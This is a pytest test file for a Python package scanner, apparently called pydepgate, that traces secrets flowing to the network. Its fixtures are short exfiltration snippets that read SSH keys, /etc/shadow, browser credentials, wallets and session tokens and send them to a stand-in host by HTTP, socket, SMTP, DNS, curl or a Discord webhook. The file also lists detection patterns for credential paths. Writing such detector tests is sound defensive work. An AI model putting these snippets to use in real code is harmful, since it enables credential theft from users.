"""Secrets and captures are followed from where they are read to where they are sent."""

from __future__ import annotations

import pytest

from pydepgate.analyse import analyse_member
from pydepgate.model import Member
from pydepgate.source.secrets import ANCHORS, kinds_named


def names(source: str) -> set[str]:
    data = source.encode()
    facts = analyse_member(Member("pkg/__init__.py", data, len(data)))
    return {signal.name for signal in facts.signals}


_SEND = "requests.post('https://server.invalid/', data=x)\n"

_FLOWS = [
    "import os, requests\nx = open(os.path.join(os.environ['HOME'], '.ssh', 'id_rsa')).read()\n" + _SEND,
    "import pathlib, requests\nx = (pathlib.Path.home() / '.ssh' / 'id_ecdsa').read_bytes()\n" + _SEND,
    "import os, requests\nx = [open(os.path.join(a, b)).read() for a, _, c in os.walk('~/.gnupg') for b in c]\n"
    + _SEND,
    "import sqlite3, requests\nx = sqlite3.connect(f'{a}/Login Data').cursor().execute('SELECT 1').fetchall()\n"
    + _SEND,
    "import os, requests\nx = os.popen('cat ~/.ssh/id_rsa').read()\n" + _SEND,
    "import subprocess, requests\nx = subprocess.run(['cat', '/etc/shadow'], capture_output=True).stdout\n" + _SEND,
    "import win32crypt, requests\nx = win32crypt.CryptUnprotectData(a, None, None, None, 0)[1]\n" + _SEND,
    "import browser_cookie3, requests\nx = browser_cookie3.chrome(domain_name='server.invalid')\n" + _SEND,
    # what is written to a file is known again by the file's name, or by the value that names it
    "import shutil, requests\nshutil.copy(f'{a}/key4.db', 'copy.db')\nx = open('copy.db', 'rb')\n" + _SEND,
    "import zipfile, requests, os\nn = os.environ['TEMP'] + '/all.zip'\nwith zipfile.ZipFile(n, 'w') as z:\n"
    "    z.write(f'{a}/wallet.dat')\nx = open(n, 'rb')\n" + _SEND,
    "import requests, os\ns = open(f'{a}/tdata/key_datas').read()\nwith open(os.path.join(t, 'o.txt'), 'w') as f:\n"
    "    f.write(s)\nx = open(os.path.join(t, 'o.txt'), 'rb')\n" + _SEND,
    # through dicts, loops, functions and attributes
    "import os, requests\nP = {'a': b + '\\\\discordptb', 'c': d + '\\\\Opera Software\\\\Opera Stable'}\nx = ''\n"
    "def get(p):\n    return [open(p + n).read() for n in os.listdir(p + '\\\\Local Storage\\\\leveldb')]\n"
    "for k, p in P.items():\n    if not os.path.exists(p):\n        continue\n    x += f'{k} {get(p)}'\n" + _SEND,
    "import requests\nclass A:\n    def __init__(self):\n        self.found = []\n        self.read()\n"
    "        requests.post('https://server.invalid/', json={'found': self.found})\n"
    "    def read(self):\n        self.found.append(open('/home/u/.bash_history').read())\nA()\n",
    # by whatever sends
    "import socket\nx = open('/root/.ssh/id_rsa').read()\ns = socket.socket()\ns.sendall(x.encode())\n",
    "import smtplib\nx = open('/root/.ssh/id_rsa').read()\nsmtplib.SMTP('server.invalid').sendmail(a, b, x)\n",
    "import socket\nx = open('/root/.ssh/id_rsa').read()\nsocket.gethostbyname(f'{x[:20]}.server.invalid')\n",
    "import os\nx = open('/root/.ssh/id_rsa').read()\nos.system(f'curl -d {x} https://server.invalid/')\n",
]


@pytest.mark.parametrize("source", _FLOWS)
def test_a_secret_is_followed_to_the_network(source: str) -> None:
    assert "flow.secret-to-network" in names(source)


_HONEST = [
    "import requests\nx = 'keys are kept in ~/.ssh/id_rsa'\n" + _SEND,
    "import os, requests\nx = os.path.exists('~/.ssh/id_rsa')\n",
    "import requests\nx = 'y'\nopen('/root/.ssh/id_rsa', 'w').write(x)\n" + _SEND,
    "import subprocess\nsubprocess.run(['ssh', '-i', '~/.ssh/id_rsa', 'server.invalid'])\n",
    "import requests\nrequests.get('https://server.invalid/.ssh/id_rsa')\n",
    "import requests\nx = open('README.md').read()\n" + _SEND,
]


@pytest.mark.parametrize("source", _HONEST)
def test_naming_a_place_is_not_reading_it(source: str) -> None:
    assert "flow.secret-to-network" not in names(source)


def test_credentials_that_tools_send_are_told_apart() -> None:
    found = names("import requests\nx = open('/root/.netrc').read()\n" + _SEND)
    assert "flow.credentials-to-network" in found
    assert "flow.secret-to-network" not in found


def test_a_variable_is_a_secret_by_its_name() -> None:
    get = "import os, requests\nx = os.environ['{}']\n" + _SEND
    assert "flow.secret-variable-to-network" in names(get.format("AWS_SECRET_ACCESS_KEY"))
    assert "flow.secret-variable-to-network" not in names(get.format("HOME"))


def test_the_address_of_a_request_made_before_counts() -> None:
    source = (
        "from urllib.request import Request, urlopen\nx = open('/root/.ssh/id_rsa').read()\n"
        "r = Request('https://discord.com/api/webhooks/0/x', data=x.encode())\nurlopen(r)\n"
    )
    assert "flow.private-to-drop" in names(source)


_TEXTS = [
    ("C:\\Users\\u\\AppData\\Local\\Google\\Chrome\\User Data\\Default", {"browser"}),
    ("\\Local Storage\\leveldb", {"session"}),
    ("~/.electrum/wallets", {"wallet"}),
    ("id_ed25519", {"keys"}),
    ("id_ed25519.pub", set()),
    ("https://server.invalid/.env", set()),
    ("http://169.254.169.254/latest/meta-data/", {"metadata"}),
    (".env", {"env-file"}),
    ("local state", set()),
    ("environment", set()),
    ("~/.ssh/known_hosts", set()),
]


@pytest.mark.parametrize(("text", "kinds"), _TEXTS)
def test_the_kinds_that_a_text_names(text: str, kinds: set[str]) -> None:
    assert kinds_named(text) == kinds


def test_anchors_are_lower_case() -> None:
    assert all(anchor and anchor == anchor.lower() for anchor in ANCHORS)
